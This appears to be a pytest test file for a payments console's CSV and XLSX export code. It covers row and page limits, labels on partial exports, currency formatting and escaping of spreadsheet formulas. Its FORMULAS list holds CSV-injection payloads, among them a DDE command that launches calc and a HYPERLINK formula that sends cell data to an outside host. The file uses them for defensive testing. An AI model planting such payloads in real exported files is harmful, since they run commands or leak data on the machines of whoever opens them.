"""Lists as files: bounded, whole or saying that they are not, and with no formula in them."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from payonce.console.exports import (
    MAX_PAGES,
    MAX_ROWS,
    Amount,
    ExportForm,
    Instant,
    Sheet,
    collected,
    export_form,
    exported,
)
from payonce.domain.errors import BodyMalformed

# Of the OWASP page "CSV Injection", and the payload of the write-up that named it.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://example.test?x="&A1,"see")',
)


def _sheet(*rows: tuple[object, ...]) -> Sheet:
    return Sheet("Payments", (("reference", 20), ("amount", 12), ("time", 20)), rows)  # type: ignore[arg-type]


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula(text: str) -> None:
    # A control character is shown as one that can't be; what follows is no formula then.
    harmless = ("'", "\ufffd")
    saved = exported(ExportForm.CSV, _sheet((text, None, None)))
    assert _csv_rows(saved.body)[1][0].startswith(harmless)
    saved = exported(ExportForm.XLSX, _sheet((text, None, None)))
    cell = openpyxl.load_workbook(io.BytesIO(saved.body)).active["A2"]
    assert cell.data_type == "s"
    assert str(cell.value).startswith(harmless)


def test_amounts_and_times_are_numbers_of_their_currency() -> None:
    row = ("r", Amount(-1234, "JPY"), Instant(1_800_000_000_000))
    csv_row = _csv_rows(exported(ExportForm.CSV, _sheet(row)).body)[1]
    assert csv_row == ["r", "-1234", "2027-01-15T08:00:00Z"]
    sheet = openpyxl.load_workbook(io.BytesIO(exported(ExportForm.XLSX, _sheet(row)).body)).active
    assert (sheet["B2"].value, sheet["B2"].number_format) == (-1234, "#,##0 [$JPY]")
    assert sheet["C2"].value.isoformat() == "2027-01-15T08:00:00"


def test_quotes_lines_and_commas_stay_in_their_cell() -> None:
    text = 'a "b", c'
    assert _csv_rows(exported(ExportForm.CSV, _sheet((text, 1, None))).body)[1][0] == text


def test_a_part_says_that_more_follows() -> None:
    whole = exported(ExportForm.CSV, _sheet(("r", 1, None)))
    part = exported(ExportForm.CSV, _sheet(("r", 1, None)), next_cursor="abc")
    assert (whole.name, part.name) == ("payments.csv", "payments-part.csv")
    assert _csv_rows(part.body)[-1] == ["More follows: the next part begins at cursor=abc"]
    assert len(_csv_rows(whole.body)) == 2


def test_equal_lists_are_equal_bytes() -> None:
    first, second = (exported(ExportForm.XLSX, _sheet(("r", 1, Instant(0)))).body for _ in range(2))
    assert first == second


def test_reading_ends_before_too_many_rows_and_says_where() -> None:
    asked: list[str | None] = []

    def page_from(cursor: str | None) -> tuple[list[int], str | None]:
        asked.append(cursor)
        return [0] * 300, str(len(asked))

    rows, cursor = collected(page_from, "start")
    assert (len(rows), cursor, asked) == (900, "3", ["start", "1", "2"])
    assert len(rows) <= MAX_ROWS


def test_reading_ends_where_a_filter_finds_nothing_for_long() -> None:
    asked: list[str | None] = []

    def page_from(cursor: str | None) -> tuple[list[int], str | None]:
        asked.append(cursor)
        return [], "on"

    assert collected(page_from, None) == ([], "on")
    assert len(asked) == MAX_PAGES


def test_a_whole_list_has_no_next_part() -> None:
    assert collected(lambda _cursor: ([1, 2], None), None) == ([1, 2], None)


def test_the_form_is_one_of_two() -> None:
    assert export_form({}) is None
    assert export_form({"format": "xlsx"}) is ExportForm.XLSX
    with pytest.raises(BodyMalformed, match="format=csv"):
        export_form({"format": "pdf"})
